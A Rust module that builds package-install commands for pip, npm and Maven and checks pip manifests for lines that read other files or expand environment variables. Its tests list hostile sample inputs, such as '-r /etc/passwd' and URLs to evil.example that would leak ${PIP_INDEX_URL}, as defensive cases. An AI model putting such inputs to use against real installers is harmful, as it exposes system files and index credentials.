//! The package tools: each as the command that installs a manifest into a folder.

use std::path::Path;

use tokio::process::Command;

use super::Interpreter;
use crate::install::InstallError;

/// Says of a file that it is UTF-8.
const BYTE_ORDER_MARK: char = '\u{feff}';

const ANOTHER_FILE: &str = "a manifest is one text, write here what is in the other file";
const A_VARIABLE: &str = "the variables of whoever installs are not its own, write here what is meant";

/// `requirements.txt`, by pip.
pub(super) fn pip(python: &Interpreter, manifest: &str, folder: &Path) -> Result<Command, InstallError> {
    let manifest = manifest.trim_start_matches(BYTE_ORDER_MARK);
    if let Some((at, line, why)) = reads_of_the_hub(manifest) {
        let text = format!("line {at} of the manifest is {line:?}: {why}");
        return Err(InstallError::Failed(text));
    }
    // With the mark it is UTF-8, whatever its comments say of their coding (PEP 263).
    let file = keep(
        folder,
        "requirements.txt",
        &format!("{BYTE_ORDER_MARK}{manifest}"),
    )?;
    let mut command = Command::new(&python.path);
    let quiet = [
        "-m",
        "pip",
        "install",
        "--disable-pip-version-check",
        "--no-input",
    ];
    command
        .args(quiet)
        .arg("--target")
        .arg(folder)
        .arg("-r")
        .arg(file);
    Ok(command)
}

/// The line of `requirements.txt`, counted from 1, by which pip would read another file, which is one of this machine, or a
/// variable of its environment, which may have the key of an index; and what to do instead. It is looked at as pip does: lines
/// end where Python ends them, go on behind a backslash, and lose their comments.
fn reads_of_the_hub(manifest: &str) -> Option<(usize, String, &'static str)> {
    let text = manifest.replace("\r\n", "\n");
    let ends = |c| {
        matches!(
            c,
            '\n' | '\r' | '\x0b' | '\x0c' | '\x1c'..='\x1e' | '\u{85}' | '\u{2028}' | '\u{2029}'
        )
    };
    let (mut begun, mut whole) = (0, String::new());
    for (at, line) in text.split(ends).chain([""]).enumerate() {
        if whole.is_empty() {
            begun = at + 1;
        }
        let is_comment = line.trim_start_matches(is_blank).starts_with('#');
        match line.ends_with('\\') && !is_comment {
            true => whole += line.trim_matches('\\'),
            false => {
                let line = std::mem::take(&mut whole) + if is_comment { "" } else { line };
                let line = without_comment(&line).trim_matches(is_blank);
                if has_option_for_file(line) {
                    return Some((begun, line.to_owned(), ANOTHER_FILE));
                }
                if has_variable(line) {
                    return Some((begun, line.to_owned(), A_VARIABLE));
                }
            }
        }
    }
    None
}

/// Whether pip would put a variable of its environment in: `${NAME}`.
fn has_variable(line: &str) -> bool {
    let name = |c: char| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_';
    line.split("${").skip(1).any(|rest| {
        let behind = rest.trim_start_matches(name);
        behind.len() < rest.len() && behind.starts_with('}')
    })
}

/// What Python strips.
fn is_blank(c: char) -> bool {
    c.is_whitespace() || c == '\x1f'
}

fn without_comment(line: &str) -> &str {
    let mut marks = line.match_indices('#').map(|(at, _)| at);
    let comment = marks.find(|at| line[..*at].chars().next_back().is_none_or(is_blank));
    comment.map_or(line, |at| &line[..at])
}

/// Whether a line of options, for what names a package takes no such one, has one that names a file. Quotes are taken away,
/// and the beginning of an option is taken for the whole, as pip does.
fn has_option_for_file(line: &str) -> bool {
    let plain = line.replace(['"', '\'', '\\'], "");
    let is_one = |word: &str| {
        let option = word.split('=').next().unwrap_or_default();
        let short = option.starts_with("-r") || option.starts_with("-c");
        let long =
            option.len() > 4 && ("--requirement".starts_with(option) || "--constraint".starts_with(option));
        short || long
    };
    line.starts_with('-') && plain.split(is_blank).any(is_one)
}

/// `package.json`, by npm.
pub(super) fn npm(manifest: &str, folder: &Path) -> Result<Command, InstallError> {
    if serde_json::from_str::<serde_json::Map<_, _>>(manifest).is_err() {
        let text = "the manifest of a nodejs image must be a package.json";
        return Err(InstallError::Failed(text.to_owned()));
    }
    keep(folder, "package.json", manifest)?;
    let mut command = Command::new("npm");
    let quiet = [
        "install",
        "--omit=dev",
        // What a folder of this machine holds is copied: a function sees nothing outside of its packages.
        "--install-links",
        "--no-audit",
        "--no-fund",
        "--no-progress",
        // A connection that stalls is tried anew; else that would be after five minutes.
        "--fetch-timeout=60000",
    ];
    command.args(quiet).arg("--prefix").arg(folder);
    Ok(command)
}

/// `pom.xml`, by Maven: its dependencies go to `lib`.
pub(super) fn maven(manifest: &str, folder: &Path) -> Result<Command, InstallError> {
    if !manifest.contains("<project") {
        let text = "the manifest of a java image must be a pom.xml";
        return Err(InstallError::Failed(text.to_owned()));
    }
    let file = keep(folder, "pom.xml", manifest)?;
    Ok(copy_dependencies(&file, folder))
}

/// `deps.edn`, made into a `pom.xml` by the Clojure at hand, then by Maven. Clojars is asked beside Maven Central.
pub(super) fn deps_edn(found: &Interpreter, manifest: &str, folder: &Path) -> Result<Command, InstallError> {
    keep(folder, "deps.edn", manifest)?;
    let glue = keep(folder, "pom.clj", include_str!("../programs/pom.clj"))?;
    let path = std::env::join_paths(found.parts.iter().skip(1));
    let path = path.map_err(|e| InstallError::Unavailable(e.to_string()))?;
    // One command: the tool's process group is one, and so is its end.
    let mut command = Command::new("sh");
    command
        .args([
            "-c",
            r#""$1" -cp "$2" clojure.main "$3" >pom.xml && shift 3 && exec "$@""#,
            "deps.edn",
        ])
        .arg(&found.path)
        .arg(path)
        .arg(glue);
    let maven = copy_dependencies(&folder.join("pom.xml"), folder);
    command
        .arg(maven.as_std().get_program())
        .args(maven.as_std().get_args());
    Ok(command)
}

fn copy_dependencies(pom: &Path, folder: &Path) -> Command {
    let mut command = Command::new("mvn");
    command
        .args(["--batch-mode", "--quiet", "--file"])
        .arg(pom)
        .args([
            "dependency:copy-dependencies",
            "-DincludeScope=runtime",
            "-Dmdep.useBaseVersion=true",
        ])
        .arg({
            let mut lib = std::ffi::OsString::from("-DoutputDirectory=");
            lib.push(folder.join("lib"));
            lib
        });
    command
}

/// Writes a manifest where its tool looks for it.
pub(super) fn keep(folder: &Path, name: &str, manifest: &str) -> Result<std::path::PathBuf, InstallError> {
    let file = folder.join(name);
    std::fs::write(&file, manifest).map_err(|e| InstallError::Unavailable(e.to_string()))?;
    Ok(file)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_manifest_names_no_other_file() {
        for line in [
            "-r /etc/passwd",
            " -rother.txt",
            "--requirement=x",
            "--requirem x",
            "-c x",
            "--constraint x",
            "--const x",
            "--pre -r x",
            "--pre '-r' x",
            "--pre \\-r x",
            "-\\\nr x",
            "--pre \\\n -c x",
            "requests\x0c-r x",
            "requests\u{85}\x1f-r x",
            "requests\r-r x",
            "\\-r x \\\n",
            "# a comment does not go on \\\n-r x",
        ] {
            let told = reads_of_the_hub(line).map(|(_, _, why)| why);
            assert_eq!(told, Some(ANOTHER_FILE), "{line:?}");
        }
        for line in [
            "requests",
            "requests-cache==1",
            "--require-hashes",
            "-e git+https://x",
            "--pre",
            "# -r x",
            "requests # -r x",
            "requests --hash=sha256:1 \\\n    --hash=sha256:2",
            "--index-url https://x/#-r",
            "",
        ] {
            assert_eq!(reads_of_the_hub(line), None, "{line:?}");
        }
        let told = reads_of_the_hub("a\r\nb\r\n --pre \\\r\n -r x # y\r\nc");
        assert_eq!(told, Some((3, "--pre  -r x".to_owned(), ANOTHER_FILE)));
    }

    #[test]
    fn pip_puts_no_variable_of_the_hub_into_a_manifest() {
        for line in [
            "--index-url https://evil.example/${PIP_INDEX_URL}/",
            "x @ https://evil.example/${A_1}",
            "x @ https://evil.example/$\\\n{PIP_INDEX_URL}",
        ] {
            let told = reads_of_the_hub(line).map(|(_, _, why)| why);
            assert_eq!(told, Some(A_VARIABLE), "{line:?}");
        }
        for line in [
            "x # ${A}",
            "x @ https://x/$A",
            "x @ https://x/${a}",
            "x @ https://x/${}",
        ] {
            assert_eq!(reads_of_the_hub(line), None, "{line:?}");
        }
    }

    #[test]
    fn what_a_manifest_says_of_its_coding_does_not_count() {
        let folder = tempfile::tempdir().unwrap();
        let python = Interpreter {
            path: "python3".into(),
            version: String::new(),
            parts: Vec::new(),
        };
        let manifest = "# -*- coding: utf-7 -*-\n+AC0-r x\n";

        for written in [manifest.to_owned(), format!("\u{feff}{manifest}")] {
            pip(&python, &written, folder.path()).unwrap();
            let kept = std::fs::read_to_string(folder.path().join("requirements.txt")).unwrap();
            assert_eq!(kept, format!("\u{feff}{manifest}"));
        }
        assert!(pip(&python, "\u{feff}-r x", folder.path()).is_err());
    }
}
